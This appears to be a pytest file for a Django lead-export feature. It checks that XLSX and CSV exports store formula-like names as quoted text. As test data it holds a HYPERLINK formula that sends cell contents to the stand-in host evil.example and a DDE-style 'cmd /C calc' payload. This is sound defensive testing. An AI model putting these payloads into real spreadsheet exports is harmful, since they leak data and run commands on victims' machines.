"""Formula injection through the lead list export: a public-form name cannot become a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import LeadFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_xlsx_export_stores_formula_names_as_text_and_phones_readable(client_for, kadiv):
    LeadFactory(full_name=EVIL, phone="+6281234567890", source_detail="@SUM(1)")
    response = client_for(kadiv).get("/leads/export/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2]))
    assert row["full_name"].data_type == "s" and row["full_name"].value == "'" + EVIL
    assert row["source_detail"].value == "'@SUM(1)"
    assert row["phone"].data_type == "s" and row["phone"].value == "+6281234567890"
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_csv_export_prefixes_formula_cells(client_for, kadiv):
    LeadFactory(full_name="-2+3+cmd|' /C calc'!A0", phone="+6281234567890")
    response = client_for(kadiv).get("/leads/export/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["full_name"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[0]["phone"] == "+6281234567890"
